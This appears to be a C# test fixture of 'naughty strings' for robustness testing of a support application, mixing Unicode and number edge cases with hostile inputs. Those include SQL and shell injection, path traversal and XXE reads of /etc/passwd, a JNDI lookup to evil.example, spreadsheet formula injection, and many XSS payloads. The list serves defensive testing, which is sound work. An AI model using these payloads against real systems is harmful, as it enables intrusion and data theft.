using System.Text;

namespace PremiumSupport.Tests.Hostile;

/// <summary>
/// Texts that break programs: each is something that people or attackers really type. What would run calls <c>__ran()</c>, so that a page can tell whether any did.
/// </summary>
internal static class NaughtyStrings
{
    /// <summary>Texts in which somebody who sees them sees something.</summary>
    public static IReadOnlyList<string> Seen { get; } =
    [
        // Words that are values elsewhere.
        "null", "NULL", "nil", "undefined", "None", "NaN", "Infinity", "-Infinity", "true", "false", "[object Object]", "__proto__", "constructor", "hasOwnProperty", "toString", "CON", "nul.txt", "COM1",
        // Numbers that are not.
        "0", "-0", "00", "1/0", "0x10", "1e309", "-1e-400", "9223372036854775808", "1_000", "1,000.00", "١٢٣", "½", "Ⅻ", "2026-02-30", "24:60", "١٢:٣٠", "1'000",
        // Quotes, escapes and the languages behind them.
        "'", "\"", "`", "\\", "\\\\", "''", "\"\"", "' OR '1'='1", "1; DROP TABLE Tickets; --", "'; SELECT pg_sleep(5); --", "\" OR \"\"=\"", "%' ESCAPE '!", "%", "_", "*", "?", "\\%",
        "$(reboot)", "`reboot`", "; ls -la", "| cat /etc/passwd", "&& true", "../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "file:///etc/passwd", "\\\\host\\share",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@{ throw new Exception(); }", "{0} {1} {99}", "%s%n%x%p", "%08x", "${jndi:ldap://evil.example/a}", "{% raw %}", "[[7*7]]",
        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"https://evil.example\",\"click\")", "\t=1+1", "*)(uid=*))(|(uid=*",
        "{\"a\":1}", "[1,2,3]", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "]]>", "--boundary", "Bcc: somebody@else.example", "Subject: x\r\nBcc: y@z.example",
        // Markup that would like to run.
        "<script>__ran()</script>", "</script><script>__ran()</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=__ran()>", "<img src=x onerror=\"__ran()\" ", "<svg onload=__ran()>",
        "<svg><animate onbegin=__ran() attributeName=x dur=1s>", "<body onload=__ran()>", "<iframe srcdoc=\"<script>parent.__ran()</script>\">", "<details open ontoggle=__ran()>", "<input autofocus onfocus=__ran()>",
        "<math><mi//xlink:href=\"data:x,<script>__ran()</script>\">", "<a href=javascript:__ran()>click</a>", "javascript:__ran()", "JaVaScRiPt:__ran()//", "data:text/html,<script>__ran()</script>", "vbscript:x",
        "\" onmouseover=\"__ran()", "' onfocus='__ran()' autofocus='", "\"><script>__ran()</script>", "'-__ran()-'", "\\\";__ran();//", "</textarea><script>__ran()</script>", "</title><script>__ran()</script>",
        "</style><script>__ran()</script>", "--><script>__ran()</script>", "<!--#exec cmd=\"ls\"-->", "<template><script>__ran()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=__ran()>\">",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>", "<form action=//evil.example><button>Go</button></form>",
        "&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "&nbsp;&shy;", "\u003cscript\u003e", "[click](javascript:__ran())", "![x](x\"onerror=\"__ran())", "**bold** _it_ `code` # not a title", "https://evil.example/\"onclick=__ran()",
        "http://user:pass@host/", "https://xn--80ak6aa92e.com", "//evil.example", "mailto:a@b.example?bcc=c@d.example", "tel:+1555",
        // Writing of the world.
        "Zażółć gęślą jaźń", "Ἀλφάβητος", "Съешь же ещё", "שלום עולם", "مرحبا بالعالم", "你好，世界", "こんにちは世界", "안녕하세요", "สวัสดีชาวโลก", "नमस्ते दुनिया", "ᚠᛇᚻ᛫ᛒᛦᚦ", "İıŞş", "ß ẞ ſ", "ﬁ ﬂ ﬃ", "Ａｆｕｌｌｗｉｄｔｈ",
        "e\u0301 é", "Z\u0351\u036B\u0343a\u0335\u0321l\u0322\u034Dg\u0337\u0321o\u0336\u0328", "ɐʍʎ sᴉɥʇ", "𝕳𝖊𝖑𝖑𝖔", "👍🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇪🇺🇺🇳", "☃️", "(╯°□°)╯︵ ┻━┻", "¯\\_(ツ)_/¯", "\U0001F9D1\U000E0067", "\U0010FFFD",
        // Directions, and what nobody sees between what somebody does.
        "\u202Etxt.exe", "a\u202Eb\u202Dc\u202Cd", "\u2066left\u2067right\u2068auto", "\u2069\u2069\u2069close", "\u200Frtl\u200Eltr", "שלום (admin) \u202D123", "\u061Cmark", "in\u200Bvisi\u200Dble\u2060", "\uFEFFBOM", "soft\u00ADhyphen",
        "line\u2028separator\u2029paragraph", "next\u0085line", "vertical\vtab and\fform", "\u001B[31mred\u001B[0m", "be\u0007ll", "de\u007Flete", "zero\0byte", "back\b\b\bspace", "\r\n\r\nHTTP/1.1 200 OK", "tab\tand  two  blanks ",
        "\uFFFE\uFFFFnon", "\uE000private", "hi\uD800half", "\uDC00lo", "\uFFFD", "ﷺ", "\u115Fhangul\u3164filler",
    ];

    /// <summary>Texts in which nobody sees anything.</summary>
    public static IReadOnlyList<string> Blank { get; } = ["", " ", "\t\n", "\u00A0", "\u200B\u200D\u2060", "\uFEFF", "\0", "\u202E", "\u2028", "\u0007\u001B"];

    /// <summary>Texts of great length: one word, one line, many lines, marks upon one letter.</summary>
    public static IReadOnlyList<string> Long { get; } =
    [
        new('w', 5_000), string.Concat(Enumerable.Repeat("word ", 2_000)).Trim(), string.Join('\n', Enumerable.Repeat("line", 1_000)), "a" + new string('\u0301', 2_000), string.Concat(Enumerable.Repeat("\u202E\u2066", 1_000)) + "x",
        string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 300)), string.Concat(Enumerable.Repeat("<b>", 2_000)),
    ];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Seen, .. Blank, .. Long];

    /// <summary>JSON of a text, which may hold half a character: no encoder of text would write one.</summary>
    public static string Json(string text)
    {
        var json = new StringBuilder("\"");
        foreach (var c in text)
        {
            json.Append(c is >= ' ' and < '\u007f' and not '"' and not '\\' ? c : $"\\u{(int)c:x4}");
        }

        return json.Append('"').ToString();
    }

    /// <summary>A text as a part of an address; null where it holds half a character, or would make the address longer than a server reads.</summary>
    public static string? Escaped(string text) => IsWhole(text) && Uri.EscapeDataString(text) is { Length: < 3_000 } escaped ? escaped : null;

    /// <summary>Whether a text can be written in UTF-8.</summary>
    public static bool IsWhole(string text)
    {
        var at = 0;
        while (at < text.Length)
        {
            if (!Rune.TryGetRuneAt(text, at, out var rune))
            {
                return false;
            }

            at += rune.Utf16SequenceLength;
        }

        return true;
    }
}
